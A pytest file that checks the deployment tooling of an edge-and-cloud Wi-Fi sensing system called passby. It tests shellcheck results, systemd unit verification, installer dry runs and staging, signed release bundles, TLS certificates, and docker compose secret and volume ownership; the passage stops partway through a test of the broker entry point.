"""deploy/ run for real: shell scripts lint clean, systemd units verify, installers' dry runs and
staging, monitor-mode setup, agent updates installed and rolled back, release bundles, TLS
certificates a real Mosquitto serves. (tests/unit/test_deploy.py reads deploy/ as files.)"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import ssl
import stat
import subprocess
import sys
import tarfile
import threading
import time
import tomllib
import zipfile
from pathlib import Path

import pytest
from deploy_helpers import (
    CLOUD,
    EDGE,
    PG_DATABASE,
    ROOT,
    _compose,
    _mounts,
    parse_unit,
    release,
    sh,
    upd,
    values,
)

from edge_agent.protocol import PROTOCOL_VERSION

SKIP_DIRS = {".git", ".venv", "var", "node_modules", "__pycache__", ".mypy_cache", ".ruff_cache"}


def need(binary: str, package: str) -> str:
    """The path of a tool the test needs; fail (never skip) naming the Debian package."""
    for candidate in (shutil.which(binary), f"/usr/sbin/{binary}", f"/usr/bin/{binary}"):
        if candidate and os.access(candidate, os.X_OK):
            return candidate
    pytest.fail(
        f"{binary} is not installed: apt-get install {package} (scripts/setup.sh test does)",
        pytrace=False,
    )


def cloud_install(*args: str | Path, script: Path = CLOUD / "install.sh"):
    """The cloud installer for mqtt.example.com with the sandbox provider, plus ``args``."""
    return sh(script, *args, "--domain", "mqtt.example.com", "--provider", "sandbox")


# shell scripts --------------------------------------------------------------------------------
def shell_scripts() -> list[Path]:
    out = []
    for dirpath, dirnames, filenames in os.walk(ROOT):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if name.endswith(".sh"):
                out.append(p)
                continue
            try:
                with open(p, "rb") as fh:
                    first = fh.readline(100)
            except OSError:
                continue
            if re.match(rb"#!\s*/(usr/)?bin/(env\s+)?(ba|da)?sh\b", first):
                out.append(p)
    return sorted(out)


def test_every_shell_script_is_shellcheck_clean() -> None:
    shellcheck = need("shellcheck", "shellcheck")
    scripts = shell_scripts()
    names = {p.relative_to(ROOT).as_posix() for p in scripts}
    assert {
        "deploy/edge/install.sh",
        "deploy/edge/monitor-setup.sh",
        "deploy/cloud/install.sh",
        "deploy/cloud/tls-setup.sh",
        "deploy/cloud/backup-sqlite.sh",
        "deploy/cloud/restore-sqlite.sh",
        "deploy/cloud/backup-postgres.sh",
        "deploy/cloud/restore-postgres.sh",
    } <= names
    res = sh(shellcheck, "--external-sources", *scripts)
    assert res.returncode == 0, res.stdout[-6000:] + res.stderr[-2000:]


@pytest.mark.parametrize("script", sorted(ROOT.glob("deploy/*/*.sh")), ids=lambda p: p.name)
def test_scripts_are_executable_and_have_help(script: Path) -> None:
    assert os.access(script, os.X_OK), f"chmod +x {script}"
    if script.name == "monitor-setup.sh":
        return  # run by systemd, no options
    res = sh(script, "--help")
    assert res.returncode == 0 and len(res.stdout.splitlines()) >= 3, res.stderr


# systemd units --------------------------------------------------------------------------------
def unit_files() -> list[Path]:
    return sorted([*EDGE.glob("systemd/*"), *CLOUD.glob("systemd/*")])


# Executables the installers do not put in place (pip and Debian do): stand-ins for verify.
STAND_INS = {
    "/opt/passby/current/venv/bin/edge-agent",
    "/opt/passby/current/venv/bin/cloud-bridge",
    "/usr/bin/python3",
    "/usr/bin/systemctl",
    "/bin/sh",
}


@pytest.fixture(scope="module")
def staged_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Both installers run with --destdir into one scratch root, plus the host's stock units."""
    root = tmp_path_factory.mktemp("root")
    res = sh(EDGE / "install.sh", "--destdir", root, "--channel", "6", "--country", "RU")
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    res = cloud_install("--destdir", root, "--postgres", "--workers", "3")
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    host_units = Path("/usr/lib/systemd/system")
    if not (host_units / "sysinit.target").exists():
        pytest.fail("systemd's units are missing: apt-get install systemd", pytrace=False)
    shutil.copytree(host_units, root / "usr/lib/systemd/system", symlinks=True)
    return root


def test_installers_put_every_unit_in_place(staged_root: Path) -> None:
    for unit in unit_files():
        installed = staged_root / "etc/systemd/system" / unit.name
        assert installed.read_bytes() == unit.read_bytes(), f"{unit.name} not installed"


def verifiable(name: str) -> str:
    """A template unit is verified through an instance (the installer enables @2..N)."""
    return name.replace("@.", "@2.")


def test_systemd_analyze_verify_units(staged_root: Path) -> None:
    """Parses every setting and dependency and checks each ExecStart exists in the staged root."""
    analyze = need("systemd-analyze", "systemd")
    names = [u.name for u in unit_files()]
    assert "passby-bridge-worker@.service" in names
    missing = set()
    for name in names:
        unit = parse_unit(staged_root / "etc/systemd/system" / name)
        for exe in values(unit, "Service", "ExecStart") + values(unit, "Service", "ExecStartPre"):
            binary = exe.split()[0].lstrip("-@:+!")
            if not (staged_root / binary.lstrip("/")).exists():
                missing.add(binary)
    assert missing <= STAND_INS, (
        f"ExecStart of files the installers should install: {missing - STAND_INS}"
    )
    for binary in missing:
        stub = staged_root / binary.lstrip("/")
        stub.parent.mkdir(parents=True, exist_ok=True)
        stub.write_text("#!/bin/sh\nexit 0\n")
        stub.chmod(0o755)
    res = sh(analyze, "verify", f"--root={staged_root}", *map(verifiable, names))
    assert res.returncode == 0 and not res.stderr.strip() and not res.stdout.strip(), (
        res.stdout + res.stderr
    )


def test_verify_catches_a_broken_unit(staged_root: Path, tmp_path: Path) -> None:
    """The check above would notice a typo (so a clean run means something)."""
    analyze = need("systemd-analyze", "systemd")
    bad = staged_root / "etc/systemd/system/passby-typo.service"
    bad.write_text("[Service]\nExecStart=/bin/true\nWatchdogSec=ninety\nProtectSystem=strictly\n")
    try:
        res = sh(analyze, "verify", f"--root={staged_root}", bad.name)
    finally:
        bad.unlink()
    assert "WatchdogSec" in res.stderr or "ninety" in res.stderr, res.stderr
    assert "strictly" in res.stderr


# installers: dry run and staging -----------------------------------------------------------
EDGE_STEPS = [
    "preflight",
    "system packages",
    "service user",
    "helper scripts and settings",
    "agent software",
    "udev rule",
    "log rotation",
    "systemd units",
    "monitor mode",
    "check: edge-agent doctor",
    "enroll",
]


def steps(output: str) -> list[tuple[str, str]]:
    """(title, body) per '==> [n/N] title' heading."""
    parts = re.split(r"^==> \[\d+/\d+\] (.*)$", output, flags=re.M)
    return list(zip(parts[1::2], parts[2::2], strict=True))


def test_edge_install_dry_run_prints_every_step_in_order_and_writes_nothing() -> None:
    watched = [Path("/etc/passby"), Path("/opt/passby"), Path("/var/lib/passby")]
    before = [p.exists() for p in watched]
    res = sh(
        EDGE / "install.sh", "--dry-run", "--enroll", "K7QX-93FD", "--bridge",
        "https://bridge.example.com", "--channel", "6",
        "--country", "RU",
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert [p.exists() for p in watched] == before, "--dry-run changed the system"
    got = steps(res.stdout)
    assert len(got) == len(EDGE_STEPS)
    for (title, _), want in zip(got, EDGE_STEPS, strict=True):
        assert title.startswith(want), (title, want)
    body = dict(got)
    packages = next(b for t, b in got if t.startswith("system packages"))
    for pkg in ("iw", "libpcap0.8", "python3-venv", "python3-cryptography", "wireless-regdb"):
        assert f" {pkg} " in packages or packages.rstrip().endswith(f" {pkg}"), pkg
    last_title, last = got[-1]
    assert last_title.startswith("enroll")
    assert re.search(
        r"would run: /opt/passby/lib/passby-enroll.sh \*\*\* --bridge https://bridge.example.com\n",
        last,
    )
    assert "K7QX-93FD" not in res.stdout + res.stderr, "the pairing code is a secret"
    assert "PASSBY_CHANNEL=6" in res.stdout and "PASSBY_COUNTRY=RU" in res.stdout
    assert "doctor --iface wlan-mon --channel 6" in res.stdout
    for line in res.stdout.splitlines():
        m = re.search(r"would install: \S+ .* from (\S+)$", line)
        if m:
            assert (ROOT / m.group(1)).is_file(), f"installer references missing {m.group(1)}"
    units = next(b for t, b in got if t.startswith("systemd units"))
    for unit in (EDGE / "systemd").iterdir():
        assert f"/etc/systemd/system/{unit.name}" in units
    assert body  # every step printed something


def test_edge_install_without_code_tells_how_to_enroll_later() -> None:
    res = sh(EDGE / "install.sh", "--dry-run")
    assert res.returncode == 0
    title, body = steps(res.stdout)[-1]
    assert title.startswith("enroll") and "edge-agent enroll CODE" in body
    assert "no --enroll CODE" in res.stderr


@pytest.mark.parametrize(
    "args,needle",
    [
        (["--bogus"], "unknown option"),
        (["--channel", "six"], "not a channel number"),
        (["--country", "russia"], "two-letter"),
        (["--release", "x.tar"], "--release-key"),
        (["--update-url", "http://x/y.tar"], "https://"),
        (["--enroll", "K7QX-93FD"], "--enroll needs --bridge"),
    ],
)
def test_edge_install_refuses_bad_options(args: list[str], needle: str) -> None:
    res = sh(EDGE / "install.sh", "--dry-run", *args)
    assert res.returncode != 0 and needle in res.stderr, res.stderr


def test_edge_install_from_a_signed_release_verifies_it_first() -> None:
    res = sh(
        EDGE / "install.sh", "--dry-run", "--release", "/tmp/passby-edge-1.0.0.tar",
        "--release-key", "ab" * 32, "--update-url", "https://releases.example/latest.tar",
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    agent = next(b for t, b in steps(res.stdout) if t.startswith("agent software"))
    assert "passby_update.py install /tmp/passby-edge-1.0.0.tar --pubkey " + "ab" * 32 in agent
    assert "pip install" not in agent
    assert "PASSBY_UPDATE_URL=https://releases.example/latest.tar" in res.stdout


def test_edge_install_force_re_pairs() -> None:
    """Re-pairing after `sensors add --rotate` needs enroll --force: install.sh passes it on."""
    res = sh(EDGE / "install.sh", "--dry-run", "--enroll", "K7QX-93FD", "--bridge",
             "https://bridge.example.com", "--force")  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert "passby-enroll.sh *** --bridge https://bridge.example.com --force\n" in res.stdout


def test_passby_enroll_sets_permissions_before_the_agent_can_start(tmp_path: Path) -> None:
    """The path unit would start the agent as soon as edge.toml appears: passby-enroll.sh stops
    it first, makes /etc/passby readable by the agent's group, then starts path and agent."""
    import grp

    log = tmp_path / "log"
    etc = tmp_path / "etc"
    etc.mkdir()
    systemctl = tmp_path / "systemctl"
    # The stub notes, at each call, whether the agent could read its config yet.
    systemctl.write_text(
        f'#!/bin/sh\nreadable=no\n[ "$(stat -c %G {etc}/edge.toml 2>/dev/null)" = "{GROUP}" ] '
        f'&& [ "$(stat -c %a {etc}/edge.toml)" = 640 ] && readable=yes\n'
        f'echo "systemctl $* readable=$readable" >> {log}\n'
    )
    agent = tmp_path / "edge-agent"
    # Like the real enroll: the directory 0700, the files 0600, root's group.
    agent.write_text(
        f'#!/bin/sh\necho "agent $*" >> {log}\nchmod 0700 {etc}\n'
        f"umask 077; echo 'store_id = \"main-st\"' > {etc}/edge.toml; echo s > {etc}/site.key\n"
    )
    for f in (systemctl, agent):
        f.chmod(0o755)
    env = {"PASSBY_ETC": str(etc), "PASSBY_STATE": str(tmp_path / "state"),
           "PASSBY_AGENT": str(agent), "PASSBY_SYSTEMCTL": str(systemctl), "PASSBY_GROUP": GROUP}  # fmt: skip
    res = sh(EDGE / "passby-enroll.sh", "K7QX-93FD", "--bridge", "https://b.example", "--force",
             env=env)  # fmt: skip
    assert res.returncode == 0, res.stderr
    lines = log.read_text().splitlines()
    assert lines[0].startswith("systemctl stop passby-agent.path passby-agent.service")
    assert lines[1] == (
        f"agent enroll K7QX-93FD --bridge https://b.example --out {etc} "
        f"--data-dir {tmp_path / 'state'} --force"
    )
    assert lines[2:] == [
        "systemctl start passby-agent.path readable=yes",
        "systemctl restart passby-agent.service readable=yes",
    ]
    assert stat.S_IMODE(etc.stat().st_mode) == 0o2750
    assert grp.getgrgid(etc.stat().st_gid).gr_name == GROUP
    assert stat.S_IMODE((etc / "site.key").stat().st_mode) == 0o640
    assert "K7QX-93FD" not in res.stdout + res.stderr


GROUP = "daemon"  # any group other than root's, present on Debian


def test_edge_install_from_a_bundle_pins_the_key_and_turns_updates_on(
    built_release: tuple[Path, Path, str], tmp_path: Path
) -> None:
    """From an unpacked bundle, with no key or URL given: the bundle is verified, its box
    release installed, its key pinned and the update source set, so passby-update.service's
    conditions hold and the timer has something to do."""
    dist, key, pub = built_release
    v = _version()
    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
        tar.extractall(tmp_path, filter="data")
    bundle = tmp_path / f"passby-{v}"
    root = tmp_path / "root"
    res = sh(bundle / "deploy/edge/install.sh", "--destdir", root, "--enroll", "K7QX-93FD",
             "--bridge", "https://bridge.example.com")  # fmt: skip
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    agent = next(b for t, b in steps(res.stdout) if t.startswith("agent software"))
    assert f"passby_update.py verify-bundle {bundle} --pubkey {pub}" in agent
    assert f"passby_update.py install {bundle}/passby-edge-{v}.tar --pubkey {pub}" in agent
    assert "pip install" not in agent
    assert (root / "etc/passby/release-signing.pub").read_text().strip() == pub
    env = (root / "etc/passby/update.env").read_text()
    assert env.strip() == "PASSBY_UPDATE_URL=https://updates.example.com/passby-edge-latest.tar"
    unit = parse_unit(root / "etc/systemd/system/passby-update.service")
    for path in values(unit, "Unit", "ConditionPathExists"):
        assert (root / path.lstrip("/")).exists(), f"passby-update.service would skip: {path}"
    assert "passby-update.timer" in next(b for t, b in steps(res.stdout) if t.startswith("systemd"))
    # A bundle without an update URL: the bridge it pairs with serves the releases.
    (bundle / "BUNDLE.json").unlink()
    upd.sign_bundle(bundle, key, v, PROTOCOL_VERSION)
    res = sh(bundle / "deploy/edge/install.sh", "--dry-run", "--enroll", "K7QX-93FD",
             "--bridge", "https://bridge.example.com/")  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert (
        "PASSBY_UPDATE_URL=https://bridge.example.com/releases/passby-edge-latest.tar" in res.stdout
    )
    # A bundle signed by another key than the one pinned on the box is refused by verify-bundle.
    other = tmp_path / "other.key"
    upd.keygen(other)
    upd.sign_bundle(bundle, other, v, PROTOCOL_VERSION)
    with pytest.raises(upd.ReleaseError, match="bad signature"):
        upd.verify_bundle(bundle, pub)


def test_cloud_install_from_a_bundle(built_release: tuple[Path, Path, str], tmp_path: Path) -> None:
    """From an unpacked bundle the cloud installer verifies it, installs the bridge from its wheel
    (not a checkout) and puts the box release where GET /releases/passby-edge-latest.tar serves it."""
    dist, _key, pub = built_release
    v = _version()
    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
        tar.extractall(tmp_path, filter="data")
    bundle = tmp_path / f"passby-{v}"
    root = tmp_path / "root"
    res = cloud_install("--destdir", root, script=bundle / "deploy/cloud/install.sh")
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    software = next(b for t, b in steps(res.stdout) if t.startswith("bridge software"))
    assert f"passby_update.py verify-bundle {bundle} --pubkey {pub}" in software
    assert f"pip install --quiet {bundle}/passby-{v}-py3-none-any.whl[bridge]" in software
    served = root / f"var/lib/passby-bridge/releases/passby-edge-{v}.tar"
    assert served.read_bytes() == (bundle / f"passby-edge-{v}.tar").read_bytes()
    from cloud_bridge.sensors.releases import latest_release

    assert latest_release(served.parent) == served
    release = json.loads((root / f"opt/passby/releases/{v}/release.json").read_text())
    assert release["protocol"] == PROTOCOL_VERSION and release["version"] == v


def test_edge_install_destdir_files_and_modes(staged_root: Path) -> None:
    def mode(rel: str) -> int:
        return stat.S_IMODE((staged_root / rel).stat().st_mode)

    assert mode("opt/passby/lib/monitor-setup.sh") == 0o755
    assert mode("opt/passby/lib/passby_update.py") == 0o755
    assert mode("etc/passby/monitor.env") == 0o640
    assert mode("etc/udev/rules.d/70-passby-wlan-mon.rules") == 0o644
    assert mode("etc/passby/bridge-mqtt.password") == 0o640
    env = (staged_root / "etc/passby/monitor.env").read_text()
    assert "PASSBY_CHANNEL=6" in env and "PASSBY_COUNTRY=RU" in env
    release = json.loads((staged_root / "opt/passby/releases/0.1.0/release.json").read_text())
    assert release["protocol"] == PROTOCOL_VERSION
    conf = (staged_root / "etc/mosquitto/conf.d/passby.conf").read_text()
    assert "password_file /etc/mosquitto/passby/passby.passwd" in conf
    assert "acl_file /etc/mosquitto/passby/passby.acl" in conf
    ref = (ROOT / "deploy/mosquitto/passby.conf.example").read_text()
    assert len(conf.splitlines()) == len(ref.splitlines()), "only the two paths may differ"


CLOUD_STEPS = [
    "preflight",
    "system packages",
    "service user",
    "bridge software",
    "helper scripts",
    "configuration",
    "TLS",
    "Mosquitto",
    "PostgreSQL",
    "check: cloud-bridge validate-config",
    "systemd units",
]


def test_cloud_install_dry_run() -> None:
    res = cloud_install("--dry-run", "--postgres")
    assert res.returncode == 0, res.stderr
    got = steps(res.stdout)
    assert len(got) == len(CLOUD_STEPS)
    for (title, _), want in zip(got, CLOUD_STEPS, strict=True):
        assert title.startswith(want), (title, want)
    assert "mosquitto_passwd -b /etc/mosquitto/passby/passby.passwd bridge ***" in res.stdout
    assert not re.search(r"\b[0-9a-f]{48}\b", res.stdout), "a generated password was printed"
    assert (
        "tls-setup.sh --name mqtt.example.com --out /etc/mosquitto/certs --group mosquitto"
        in res.stdout
    )
    assert 'public_url = "https://mqtt.example.com"' in res.stdout
    assert (
        "systemctl enable --now passby-mosquitto-reload.path passby-backup.timer passby-bridge.service passby-backup-postgres.timer"
        in res.stdout
    )
    res = sh(CLOUD / "install.sh", "--dry-run")
    assert res.returncode != 0 and "--domain is required" in res.stderr


def _bridge_toml(output: str) -> str:
    """The bridge.toml a dry run would write (the '| ' lines after its 'would write:')."""
    m = re.search(
        r"would write: /etc/passby/bridge.toml .*\n((?:      \| .*\n|      \|\n)+)", output
    )
    assert m, "the dry run shows no bridge.toml"
    return "".join(line[8:] + "\n" for line in m.group(1).splitlines())


def test_cloud_install_with_postgres_workers() -> None:
    """--postgres --workers 3: bridge.toml on the local database, workers @2 and @3 enabled
    after the main unit; the template installed; without --workers, no worker unit."""
    res = cloud_install("--dry-run", "--postgres", "--workers", "3")
    assert res.returncode == 0, res.stderr
    toml = _bridge_toml(res.stdout)
    assert re.findall(r"^database = .*$", toml, re.M) == [f'database = "{PG_DATABASE}"']
    # Mosquitto ties a client id to its account: one account per worker, with the bridge's rights
    assert tomllib.loads(toml)["provisioning"]["bridge_accounts"] == ["bridge-2", "bridge-3"]
    for account in ("bridge", "bridge-2", "bridge-3"):
        assert (
            f"mosquitto_passwd -b /etc/mosquitto/passby/passby.passwd {account} ***" in res.stdout
        )
        assert f"| user {account}\n" in res.stdout
    body = dict(steps(res.stdout))
    units = next(b for t, b in body.items() if t.startswith("systemd units"))
    assert (
        "would install: /etc/systemd/system/passby-bridge-worker@.service (mode 0644, root:root)"
        in units
    )
    enables = re.findall(r"would run: systemctl enable --now (.*)", units)
    assert len(enables) == 2, enables
    assert "passby-bridge.service" in enables[0].split()
    assert enables[1].split() == [
        "passby-bridge-worker@2.service",
        "passby-bridge-worker@3.service",
    ]

    res = cloud_install("--dry-run", "--postgres")
    assert res.returncode == 0, res.stderr
    assert not re.search(r"passby-bridge-worker@\d", res.stdout)
    assert len(re.findall(r"systemctl enable --now", res.stdout)) == 1
    assert f'\ndatabase = "{PG_DATABASE}"\n' in _bridge_toml(res.stdout)

    res = cloud_install("--dry-run")
    assert res.returncode == 0, res.stderr
    toml = _bridge_toml(res.stdout)
    assert not re.search(r"^database\b", toml, re.M), "SQLite by default"
    assert f'# database = "{PG_DATABASE}"' in toml
    assert "passby-bridge-worker@2" not in res.stdout


@pytest.mark.parametrize(
    "args,needle",
    [
        (["--workers", "3"], "--workers 3 needs --postgres"),
        (["--postgres", "--workers", "0"], "--workers '0' is not a number from 1 to 64"),
        (["--postgres", "--workers", "65"], "not a number from 1 to 64"),
        (["--postgres", "--workers", "two"], "not a number"),
    ],
)
def test_cloud_install_refuses_bad_workers(args: list[str], needle: str) -> None:
    res = cloud_install("--dry-run", *args)
    assert res.returncode != 0 and needle in res.stderr, res.stderr
    assert "==> [2/" not in res.stdout, "refused only after starting"


def test_cloud_install_postgres_config_validates(tmp_path: Path) -> None:
    """`cloud-bridge validate-config` accepts the bridge.toml install.sh --postgres writes; a kept
    bridge.toml still on SQLite is refused for --workers (the workers would not share a store)."""
    from cloud_bridge.config import BridgeSettings, load_settings

    root = tmp_path / "root"
    res = cloud_install("--destdir", root, "--postgres", "--workers", "3")
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    conf = root / "etc/passby/bridge.toml"
    assert stat.S_IMODE(conf.stat().st_mode) == 0o640
    bridge = Path(sys.executable).parent / "cloud-bridge"
    if not bridge.exists():
        pytest.fail(f"{bridge} is missing: pip install -e '.[dev]'", pytrace=False)
    env = {k: v for k, v in os.environ.items() if not k.startswith("PASSBY_")}
    res = sh(bridge, "validate-config", conf, env=env)
    assert res.returncode == 0, res.stderr
    assert f"OK (database {PG_DATABASE})" in res.stdout
    s = load_settings(BridgeSettings, conf)
    assert s.database_path() == PG_DATABASE and s.worker_id == "1"
    assert str(s.data_dir) == "/var/lib/passby-bridge"

    res = cloud_install("--destdir", root, "--postgres", "--workers", "3")
    assert res.returncode == 0 and "keeping the existing /etc/passby/bridge.toml" in res.stdout

    conf.write_text(re.sub(r"^database = .*\n", "", conf.read_text(), flags=re.M))
    res = cloud_install("--destdir", root, "--postgres", "--workers", "3")
    assert res.returncode != 0 and "move the data to PostgreSQL first" in res.stderr, res.stderr
    res = cloud_install("--destdir", root, "--postgres")
    assert res.returncode == 0 and "does not use PostgreSQL" in res.stderr, res.stderr


# docker compose: checked statically (no container engine runs here) --------------------------
MOSQUITTO_IMAGE_GID = 1883  # eclipse-mosquitto's Dockerfile: addgroup -g 1883 mosquitto


def _bridge_image_uid() -> int:
    """The uid the bridge image runs as, from the Dockerfile (USER and its useradd line)."""
    text = (CLOUD / "Dockerfile").read_text()
    user = re.findall(r"^USER (\S+)$", text, flags=re.M)[-1]
    uid = re.search(rf"useradd [^\n]*--uid (\d+)[^\n]* {user}\b", text)
    assert uid, f"the Dockerfile's USER {user} has no useradd --uid"
    return int(uid.group(1))


def _cert_names(cert: Path) -> set[str]:
    from cryptography import x509

    c = x509.load_pem_x509_certificate(cert.read_bytes())
    san = c.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    return {str(v) for v in san.get_values_for_type(x509.DNSName)} | {
        str(v) for v in san.get_values_for_type(x509.IPAddress)
    }


@pytest.fixture(scope="module")
def compose_setup(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """compose/setup.sh for real into a scratch directory (as root: it hands secrets to uid 10001)."""
    need("openssl", "openssl")
    assert os.geteuid() == 0, "compose/setup.sh hands the secrets to uid 10001: run as root"
    out = tmp_path_factory.mktemp("compose")
    res = sh(CLOUD / "compose/setup.sh", "--domain", "mqtt.example.com", "--public-host",
             "bridge.example.com", "--out", out)  # fmt: skip
    assert res.returncode == 0, res.stdout + res.stderr
    return out


def test_compose_bridge_config_uses_postgres_and_validates(compose_setup: Path) -> None:
    import tomllib

    from cloud_bridge.config import BridgeSettings, load_settings

    compose = _compose()
    conf = tomllib.loads((compose_setup / "bridge.toml").read_text())
    db = conf["database"]
    assert db.startswith("postgresql://"), db
    host = re.match(r"postgresql://[^@/]+@([^:/]+)(?::(\d+))?/(\w+)$", db)
    assert host, db
    pg = compose["services"][host.group(1)]
    assert pg["image"].startswith("postgres:"), f"{host.group(1)} is not the PostgreSQL service"
    assert pg["environment"]["POSTGRES_DB"] == host.group(3)
    # libpq finds the password in PGPASSFILE, a secret the bridge has; its line matches the URL.
    bridge = compose["services"]["bridge"]
    passfile = bridge["environment"]["PGPASSFILE"]
    assert passfile.removeprefix("/run/secrets/") in bridge["secrets"]
    line = (compose_setup / "secrets" / passfile.removeprefix("/run/secrets/")).read_text()
    user = db.split("//")[1].split("@")[0]
    pw = (compose_setup / "secrets/postgres.password").read_text().strip()
    assert line.strip() == f"{host.group(1)}:{host.group(2) or 5432}:{host.group(3)}:{user}:{pw}"
    assert pg["environment"]["POSTGRES_USER"] == user
    env = {**os.environ, "PASSBY_DATA_KEY": "ab" * 32}
    res = sh(Path(sys.executable).parent / "cloud-bridge", "validate-config",
             compose_setup / "bridge.toml", env=env)  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert load_settings(BridgeSettings, compose_setup / "bridge.toml").database_path() == db


def test_compose_certificate_names_every_host_the_services_use(compose_setup: Path) -> None:
    import tomllib

    compose = _compose()
    conf = tomllib.loads((compose_setup / "bridge.toml").read_text())
    names = _cert_names(compose_setup / "certs/broker.crt")
    mqtt_host = conf["mqtt"]["host"]
    assert mqtt_host in compose["services"], f"[mqtt] host {mqtt_host} is no compose service"
    assert compose["services"][mqtt_host]["image"].startswith("eclipse-mosquitto")
    assert mqtt_host in names, f"the broker certificate ({names}) does not name {mqtt_host}"
    assert conf["provisioning"]["mqtt_host"] in names  # what sensors are told
    # The port the bridge and sensors use is the broker's TLS listener, published by compose.
    listener = re.search(r"^listener (\d+)$", (ROOT / "deploy/mosquitto/passby.conf.example")
                         .read_text(), flags=re.M)  # fmt: skip
    assert listener and conf["mqtt"]["port"] == int(listener.group(1)) == conf["provisioning"][
        "mqtt_port"]  # fmt: skip
    assert f"{listener.group(1)}:{listener.group(1)}" in compose["services"][mqtt_host]["ports"]
    # The CA the bridge trusts is the one that signed the certificate, mounted where it looks.
    res = sh("openssl", "verify", "-CAfile", compose_setup / "certs/ca.crt",
             compose_setup / "certs/broker.crt")  # fmt: skip
    assert res.returncode == 0, res.stdout + res.stderr
    mounts = _mounts(compose["services"]["bridge"])
    assert mounts[conf["mqtt"]["ca_file"]][0] == "./certs/ca.crt"
    assert _mounts(compose["services"][mqtt_host])["/etc/mosquitto/certs"][0] == "./certs"
    # Caddy proxies to the bridge's web port and serves the public name of public_url.
    caddy = (CLOUD / "compose/Caddyfile").read_text()
    upstream = re.search(r"reverse_proxy (\S+):(\d+)", caddy)
    assert upstream and upstream.group(1) == "bridge", caddy
    assert int(upstream.group(2)) == conf["web"]["port"] and conf["web"]["host"] == "0.0.0.0"
    proxy = compose["services"]["proxy"]
    assert "443:443" in proxy["ports"] and "{$PASSBY_PUBLIC_HOST}" in caddy
    env_file = (compose_setup / "compose.env").read_text()
    assert f"PASSBY_PUBLIC_HOST={conf['public_url'].removeprefix('https://')}" in env_file
    assert "ports" not in compose["services"]["bridge"], "only the proxy may reach the bridge"
    # The bridge believes X-Forwarded-* from the proxy's fixed address only, inside the subnet.
    import ipaddress

    proxy_ip = proxy["networks"]["default"]["ipv4_address"]
    subnet = compose["networks"]["default"]["ipam"]["config"][0]["subnet"]
    assert ipaddress.ip_address(proxy_ip) in ipaddress.ip_network(subnet)
    assert conf["web"]["trusted_proxies"] == [proxy_ip]


def test_compose_broker_key_readable_by_the_mosquitto_image_user(compose_setup: Path) -> None:
    key = (compose_setup / "certs/broker.key").stat()
    assert key.st_gid == MOSQUITTO_IMAGE_GID and stat.S_IMODE(key.st_mode) == 0o640
    assert stat.S_IMODE((compose_setup / "certs/ca.key").stat().st_mode) == 0o600
    assert stat.S_IMODE((compose_setup / "certs").stat().st_mode) == 0o755


def test_compose_volume_and_secret_owners_match_the_service_users(
    compose_setup: Path, tmp_path: Path
) -> None:
    """init-volumes.sh run for real on scratch directories gives each named volume to the user
    that writes it; every service writing a named volume runs as that user (or is 'init')."""
    compose = _compose()
    uid = _bridge_image_uid()
    services = compose["services"]
    bridge_image = services["bridge"]["image"]
    init = services["init"]
    script, auth_path, data_path = init["entrypoint"][1:4]
    assert _mounts(init)[script][0] == "./compose/init-volumes.sh"
    auth, data = tmp_path / "auth", tmp_path / "data"
    auth.mkdir()
    (auth / "passby.passwd").write_text("")  # left root-owned by an earlier start
    res = sh("sh", CLOUD / "compose/init-volumes.sh", auth, data)
    assert res.returncode == 0, res.stderr
    owners = {
        _mounts(init)[auth_path][0]: auth.stat(),
        _mounts(init)[data_path][0]: data.stat(),
    }
    a, d = owners["broker-auth"], owners["bridge-data"]
    assert (a.st_uid, a.st_gid, stat.S_IMODE(a.st_mode)) == (uid, MOSQUITTO_IMAGE_GID, 0o2750)
    assert (auth / "passby.passwd").stat().st_uid == uid
    assert (d.st_uid, stat.S_IMODE(d.st_mode)) == (uid, 0o750)
    for name, svc in services.items():
        for src, writable in _mounts(svc).values():
            if src not in owners or not writable or name == "init":
                continue
            assert svc.get("image") == bridge_image and "user" not in svc, (
                f"{name} writes {src} but does not run as the bridge image's user {uid}"
            )
            assert "init" in svc["depends_on"], f"{name} must start after init"
    # The broker reads the auth volume through its group; its readers mount it read-only.
    assert "broker-auth" in {m[0] for m in _mounts(services["mosquitto"]).values()}
    # The bridge's secrets are the bridge user's, readable by nobody else.
    for secret in services["bridge"]["secrets"]:
        st = (compose_setup / compose["secrets"][secret]["file"]).stat()
        assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (uid, 0o400), secret


def test_compose_mosquitto_entrypoint_reloads_on_change(tmp_path: Path) -> None:
    """The broker container's entry point sends the broker SIGHUP when the bridge rewrites the
    password or ACL file (containers cannot signal each other), and refuses to start without."""
    auth = tmp_path / "auth"
    auth.mkdir()
    entry = CLOUD / "compose/mosquitto-entrypoint.sh"
    env = {**os.environ, "PASSBY_AUTH_DIR": str(auth), "PASSBY_POLL_S": "0.2"}
    missing = subprocess.run(["sh", str(entry), "true"], env=env, capture_output=True, text=True)
    assert missing.returncode != 0 and "broker-accounts" in missing.stderr
    (auth / "passby.passwd").write_text("")
    (auth / "passby.acl").write_text("")
    hups = tmp_path / "hups"
    fake = tmp_path / "broker.sh"
    fake.write_text(f"#!/bin/sh\ntrap 'echo hup >>{hups}' HUP\ntouch {tmp_path}/started\n"
                    "while :; do sleep 0.1; done\n")  # fmt: skip
    fake.chmod(0o755)
    proc = subprocess.Popen(["sh", str(entry), str(fake)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)  # fmt: skip
    try:
        deadline = time.monotonic() + 5
        while not (tmp_path / "started").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (tmp_path / "started").exists(), "the entry point did not start the broker"
